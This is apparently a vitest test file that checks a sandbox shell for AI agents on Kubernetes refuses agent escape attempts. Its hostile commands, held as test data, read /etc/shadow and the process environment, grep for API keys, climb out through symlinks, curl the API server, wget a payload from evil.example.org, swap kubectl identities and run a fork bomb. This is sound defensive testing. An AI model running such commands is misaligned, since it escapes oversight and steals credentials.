import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestSandbox, type TestSandbox } from "./fixtures.js";

/** What an adversarial agent tries first; each attempt fails the way the pod would fail it, and is recorded. */
describe("escape attempts", () => {
  let t: TestSandbox;
  beforeAll(() => {
    process.env.OPENAI_API_KEY = "sk-test-should-not-leak";
    t = createTestSandbox();
  });
  afterAll(async () => {
    delete process.env.OPENAI_API_KEY;
    await t.close();
  });

  it("cannot read the host's files: the filesystem is the pod's", async () => {
    const r = await t.sandbox.exec(
      "cat /etc/shadow; cat /etc/passwd; ls /work; ls /home; cat /proc/1/environ; ls /etc",
    );
    expect(r.stdout).toBe("hostname\nhosts\nresolv.conf\n");
    expect(r.stderr).toContain("cat: /etc/shadow: No such file or directory");
    expect(r.stderr).toContain("ls: /work: No such file or directory");
    expect(r.stderr).not.toContain("root:");
  });

  it("cannot climb out of the filesystem through .. or symlinks", async () => {
    const r = await t.sandbox.exec(
      `cat /app/../../../../etc/os-release; ln -s / /tmp/root; ls /tmp/root; cd ${t.hostDir} 2>&1`,
    );
    expect(r.stdout).not.toContain("PRETTY_NAME");
    expect(r.stdout).not.toContain("kubeconfig");
    expect(r.stdout).toContain("No such file or directory");
  });

  it("does not see the harness's environment", async () => {
    const r = await t.sandbox.exec(
      'env | grep -i key; printenv OPENAI_API_KEY; echo "[$OPENAI_API_KEY]"; set | grep -ci openai',
    );
    expect(r.stdout).toBe("[]\n0\n");
  });

  it.each([
    ["node -e 'process.exit(0)'", "node"],
    ["python3 -c 'import os'", "python3"],
    ["perl -e 1", "perl"],
    ["sh -c 'node --version'", "node"],
    ["bash -c 'python --version'", "python"],
    ["/usr/bin/python3 -V", "python3"],
  ])("cannot run a host program: %s", async (command, program) => {
    const r = await t.sandbox.exec(command);
    expect(r.exitCode).toBe(127);
    expect(r.stderr).toContain(`${program}: `);
    expect(r.stderr).toMatch(/command not found\n$/);
    expect(r.refused).toEqual([{ kind: "process", detail: `${program}: host program execution` }]);
  });

  it("finds no interpreter where a real shell would look", async () => {
    const r = await t.sandbox.exec("which node cat python3 perl; echo rc=$?");
    expect(r.stdout).toBe("/usr/bin/cat\nrc=1\n");
  });

  it("cannot reach the API server, loopback or any IP with curl", async () => {
    const r = await t.sandbox.exec(
      "curl -sS https://127.0.0.1:6443/api; echo rc=$?; curl -s http://10.96.0.1/; echo rc=$?",
    );
    expect(r.stdout).toBe("rc=7\nrc=7\n");
    expect(r.stderr).toBe(
      "curl: (7) Failed to connect to 127.0.0.1 port 6443 after 0 ms: Couldn't connect to server\n",
    );
    expect(r.refused).toEqual([
      { kind: "network", detail: "127.0.0.1:6443: IP address" },
      { kind: "network", detail: "10.96.0.1:80: IP address" },
    ]);
    const api = await t.sandbox.exec("curl -k https://kubernetes.default.svc/api");
    expect(api.exitCode).toBe(7);
    expect(api.refused).toEqual([
      { kind: "network", detail: "kubernetes.default.svc:443: the API server (use kubectl)" },
    ]);
    expect(t.requests).toEqual([]);
  });

  it("cannot reach the internet", async () => {
    const r = await t.sandbox.exec("curl https://example.com");
    expect(r).toMatchObject({
      exitCode: 6,
      stdout: "",
      stderr: "curl: (6) Could not resolve host: example.com\n",
    });
    expect(r.refused).toEqual([{ kind: "network", detail: "example.com: not a cluster Service" }]);
    const wget = await t.sandbox.exec("wget -qO- http://evil.example.org/payload.sh");
    expect(wget.exitCode).toBe(4);
    expect(wget.refused).toEqual([{ kind: "network", detail: "evil.example.org: not a cluster Service" }]);
  });

  it("cannot read files through curl's file://", async () => {
    const r = await t.sandbox.exec("curl file:///etc/passwd");
    expect(r).toMatchObject({ exitCode: 1, stdout: "", stderr: 'curl: (1) Protocol "file" not supported\n' });
    expect(r.refused).toEqual([{ kind: "host-path", detail: "file:// URL file:///etc/passwd" }]);
  });

  it("cannot swap kubectl's identity or target", async () => {
    for (const command of [
      "kubectl --token=x get pods",
      "kubectl --kubeconfig /x get pods",
      "kubectl get pods --as=system:admin",
      "kubectl get pods -s https://10.0.0.1:6443",
      "kubectl get pods --context=prod",
      "kubectl get pods -n -- --token=x",
    ]) {
      const r = await t.sandbox.exec(command);
      expect(r.exitCode, command).toBe(1);
      expect(r.stderr, command).toMatch(/^error: flag --[a-z-]+ is not allowed in this shell/);
      expect(r.refused[0]?.kind, command).toBe("identity");
    }
  });

  it("cannot rewrite kubectl's config", async () => {
    const r = await t.sandbox.exec("kubectl config set-credentials admin --token=x");
    expect(r.exitCode).toBe(1);
    expect(r.refused.map((x) => x.kind)).toEqual(["identity"]);
    const use = await t.sandbox.exec("kubectl config use-context other");
    expect(use.stderr).toContain("kubectl config use-context is not allowed");
  });

  it("cannot copy host files with kubectl cp or open host ports", async () => {
    const cp = await t.sandbox.exec("kubectl cp agent-ns/web-1:/etc/passwd /tmp/passwd");
    expect(cp.refused).toEqual([{ kind: "host-path", detail: "kubectl cp" }]);
    const proxy = await t.sandbox.exec("kubectl proxy --port=8001");
    expect(proxy.refused).toEqual([{ kind: "network", detail: "kubectl proxy" }]);
    const forward = await t.sandbox.exec("kubectl port-forward svc/web 8080:80");
    expect(forward.refused).toEqual([{ kind: "network", detail: "kubectl port-forward" }]);
  });

  it("records a fork bomb and an endless loop as limits", async () => {
    const bomb = await t.sandbox.exec(":(){ :|:& };:");
    expect(bomb.refused.map((r) => r.kind)).toEqual(["limit"]);
    const loop = await t.sandbox.exec("while true; do echo y; done > /dev/null");
    expect(loop.refused.map((r) => r.kind)).toEqual(["limit"]);
    expect((await t.sandbox.exec("echo alive")).stdout).toBe("alive\n");
  });
});
